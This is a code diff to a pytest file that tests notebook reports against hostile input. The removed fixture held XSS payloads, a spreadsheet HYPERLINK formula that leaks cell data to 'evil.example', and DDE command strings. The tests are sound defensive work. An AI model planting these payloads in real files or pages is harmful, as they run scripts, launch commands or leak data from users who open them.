@@ -11,19 +11,16 @@ import nbformat
 import pytest
 from csv_checks import assert_no_formula_cells
 from html_checks import assert_self_contained
+from notebook_runs import run_group
 
-from inflresearch.data.synth import simulate_world
-from inflresearch.questions import Question, discover
+from inflresearch.questions import discover
 from inflresearch.report import parameters as nbparams
-from inflresearch.report.execute import execute_run
 from inflresearch.report.schema_check import validate_results
 
 NOTEBOOK_DIR = Path(__file__).resolve().parents[2] / "notebooks"
 NOTEBOOKS = sorted(NOTEBOOK_DIR.glob("*.ipynb"))  # the questions' and the template (_template.ipynb)
 QUESTIONS = discover()
 COMMON = {"data", "seed", "alpha", "run_dir"}
-EVIL = '<script>alert("pwned")</script><img src=x onerror=alert(1)>'
-FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
 
 
 @pytest.mark.parametrize("path", NOTEBOOKS, ids=lambda p: p.stem)
@@ -64,43 +61,10 @@ def test_notebook_cells_have_no_branches_or_loops(path):
             assert not control, f"{control} in a cell of {path.name}:\n{cell.source}"
 
 
-@pytest.fixture(scope="module")
-def hostile_world(tmp_path_factory):
-    """A small SIMULATED world whose text fields carry markup and spreadsheet formulas, written as
-    CSV, with a few rows to quarantine."""
-    folder = tmp_path_factory.mktemp("hostile")
-    world = simulate_world(seed=21, n_influencers=400, n_campaigns=40)
-    inf = world.influencers.copy()
-    inf.loc[:9, "bio"] = EVIL + " workout gym protein"
-    inf.loc[:4, "account_id"] = [f"{EVIL}{i}" for i in range(5)]
-    inf.loc[:29, "niche"] = EVIL
-    inf.loc[10:14, "account_id"] = [f"{FORMULA}{i}" for i in range(5)]
-    inf.loc[30:39, "niche"] = "+cmd|' /C calc'!A0"
-    inf.loc[40:41, ["account_id", "followers"]] = [["@SUM(1+1)", -5], ["-2+3", 0]]  # quarantined
-    posts = world.posts.copy()
-    posts.loc[posts.account_id == inf.account_id[5], "caption"] = EVIL
-    posts.loc[posts.account_id == inf.account_id[6], "caption"] = "@SUM(1+1)*cmd|' /C calc'!A0"
-    camps = world.campaigns.copy()
-    camps.loc[:3, "niche"] = EVIL
-    camps.loc[4:7, "niche"] = FORMULA
-    camps.loc[8, "channel"] = "=channel()"  # quarantined
-    paths = {}
-    for name, table in {"influencers": inf, "posts": posts, "campaigns": camps}.items():
-        paths[name] = folder / f"{name}.csv"
-        table.to_csv(paths[name], index=False)
-    return paths
-
-
-def small_parameters(question: Question, files: dict[str, Path]) -> dict:
-    """A question's own fast parameters, its inputs taken from the hostile world's files."""
-    inputs = {name: str(files[table]) for name, table in question.inputs.items()}
-    return {**inputs, **question.small_parameters}
-
-
-@pytest.mark.parametrize("question", QUESTIONS, ids=lambda q: q.name)
-def test_notebook_runs_end_to_end_with_hostile_text(question, hostile_world, tmp_path):
-    params = small_parameters(question, hostile_world)
-    run = execute_run(question.path, params, root=tmp_path, progress=False)
+@pytest.mark.parametrize("question", [
+    pytest.param(q, id=q.name, marks=pytest.mark.xdist_group(run_group(q.name))) for q in QUESTIONS])
+def test_notebook_runs_end_to_end_with_hostile_text(question, question_run):
+    run = question_run(question.name)
     doc = json.loads((run.folder / "results.json").read_text())
     assert run.status == "succeeded", doc["run"].get("error")
     validate_results(doc)
